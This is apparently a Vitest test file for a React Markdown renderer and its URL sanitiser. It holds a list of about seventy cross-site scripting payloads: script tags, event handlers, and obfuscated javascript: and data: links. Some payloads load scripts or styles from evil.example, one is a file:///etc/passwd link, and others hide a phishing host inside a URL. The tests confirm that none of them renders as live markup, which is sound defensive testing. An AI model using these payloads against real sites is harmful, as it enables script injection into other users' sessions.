import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "./markdown";
import { safeHref } from "../safe-href";

function html(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} />);
}

const allowedTags = new Set(
  "div p em strong s ul ol li blockquote hr br code pre table thead tbody tr th td a h3 h4 h5 h6".split(" "),
);
const allowedAttributes = new Set("class href title target rel start tabindex role aria-label".split(" "));

/** What in the markup could run or load something. Text is escaped, so a real "<" begins a tag that a browser sees. */
function harmIn(markup: string): string[] {
  const harm: string[] = [];
  const rest = markup.replace(
    /<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/g,
    (_, tag: string, attributes: string) => {
      if (!allowedTags.has(tag)) harm.push(`tag ${tag}`);
      for (const [, name = "", value = ""] of attributes.matchAll(/([^\s=]+)="([^"]*)"/g)) {
        if (!allowedAttributes.has(name)) harm.push(`attribute ${name}`);
        if (name === "href" && !/^(https?:\/\/[^@]*$|mailto:)/.test(value)) harm.push(`address ${value}`);
      }
      return "";
    },
  );
  if (rest.includes("<")) harm.push(rest);
  return harm;
}

const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<style>@import 'https://evil.example/a.css'</style>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&Tab;:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](<java\\script:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](\u00a0javascript:alert(1))",
  "[x](\u200bjavascript:alert(1))",
  "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
  "[x](javaſcript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://wheelhouse.example/1)",
  "[x](//evil.example/x)",
  "[x](\\\\evil.example\\x)",
  "[x](/sign-out)",
  "[x](?intent=delete)",
  "[x](https://bank.example@evil.example/)",
  "[x](https://bank.example%40evil.example:pw@evil.example/)",
  '[x](https://ok.example "onmouseover=alert(1) x=")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "[x](https://ok.example/'><script>alert(1)</script>)",
  "[x][1]\n\n[1]: javascript:alert(1)",
  '[x][1]\n\n[1]: https://ok.example "\\"><script>alert(1)</script>"',
  "<javascript:alert(1)>",
  "<data:text/html,alert(1)>",
  '<https://ok.example/"onmouseover=alert(1)>',
  "https://ok.example/<script>alert(1)</script>",
  "javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](https://evil.example/pixel.gif)",
  '![x" onerror="alert(1)](https://evil.example/x.gif)',
  "[![x](https://evil.example/a.gif)](javascript:alert(1))",
  "[a[b](https://ok.example)](javascript:alert(1))",
  "[[[[[x](javascript:alert(1))](javascript:alert(1))](javascript:alert(1))",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "    <script>alert(1)</script>",
  "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
  "# <svg onload=alert(1)>",
  "> <iframe src=javascript:alert(1)>",
  "1000000000000000000000. x",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "[\u202eelpmaxe.knab//:sptth](https://evil.example)",
  "\u0000<script>\u0000alert(1)</script>",
  "__proto__ constructor toString [x](constructor:alert(1))",
];

test.each(["<img src=x>", '<p onclick="x">', '<a href="javascript:x">', "<p>1 < 2</p>"])(
  "the check itself notices %s",
  (bad) => {
    expect(harmIn(bad)).not.toEqual([]);
  },
);

test("the hostile set is large enough to mean something", () => {
  expect(new Set(hostile).size).toBeGreaterThanOrEqual(60);
});

test.each(hostile)("nothing from outside runs: %j", (text) => {
  expect(harmIn(html(text))).toEqual([]);
});

test("all hostile lines together are as harmless as each alone", () => {
  const together = [hostile.join("\n"), hostile.join(" "), hostile.map((line) => `> * ${line}`).join("\n\n")];
  for (const text of together) expect(harmIn(html(text))).toEqual([]);
});

test("no image is loaded: it is a link with its description", () => {
  const markup = html("![a chart](https://evil.example/pixel.gif)");
  expect(markup).not.toContain("<img");
  expect(markup).toContain('<a href="https://evil.example/pixel.gif"');
  expect(markup).toContain("image: a chart");
});

test("an image in a link does not make a link in a link", () => {
  expect(html("[![x](https://a.example/x.gif)](https://b.example)").match(/<a /g)).toHaveLength(1);
});

test("links leave without a trace and show where they lead", () => {
  const markup = html("[docs](https://ok.example/a)");
  expect(markup).toContain('target="_blank" rel="noopener noreferrer nofollow"');
  expect(markup).toContain('title="https://ok.example/a"');
});

test("plain addresses become links, file names do not", () => {
  expect(html("see https://ok.example/x.")).toContain('href="https://ok.example/x"');
  expect(html("see notes.md")).not.toContain("<a ");
});

test("common Markdown reads as meant", () => {
  const markup = html(
    "# Title\n\n**bold** *em* ~~gone~~ `code`\n\n3. three\n4. four\n\n> quote\n\n---\n\n| a | b |\n|---|--:|\n| 1 | 2 |",
  );
  for (const part of ["<h3", "<strong", "<em>", "<s>", "<code", '<ol start="3"', "<blockquote", "<hr", "text-right"]) {
    expect(markup).toContain(part);
  }
});

test("marks that turn the writing direction are shown", () => {
  expect(html("a\u202eb")).toContain("a\ufffdb");
});

test("very long or very nested text does not hold the page", () => {
  const begin = performance.now();
  html("> ".repeat(5000) + "x");
  html("[".repeat(5000));
  html("*a ".repeat(20_000));
  html("x".repeat(300_000));
  expect(performance.now() - begin).toBeLessThan(2500);
});

test.each([
  ["https://a.example", "https://a.example/"],
  ["HTTP://A.example/b?c=d#e", "http://a.example/b?c=d#e"],
  ["mailto:someone@a.example", "mailto:someone@a.example"],
  ["https://münchen.example/", "https://xn--mnchen-3ya.example/"],
  ["javascript:alert(1)", null],
  [" https://a.example", null],
  ["https:/a.example", null],
  ["https://", null],
  ["mailto:", null],
  ["ftp://a.example", null],
  ["https://a:b@c.example", null],
])("%s leads to %s", (address, href) => {
  expect(safeHref(address)).toBe(href);
});
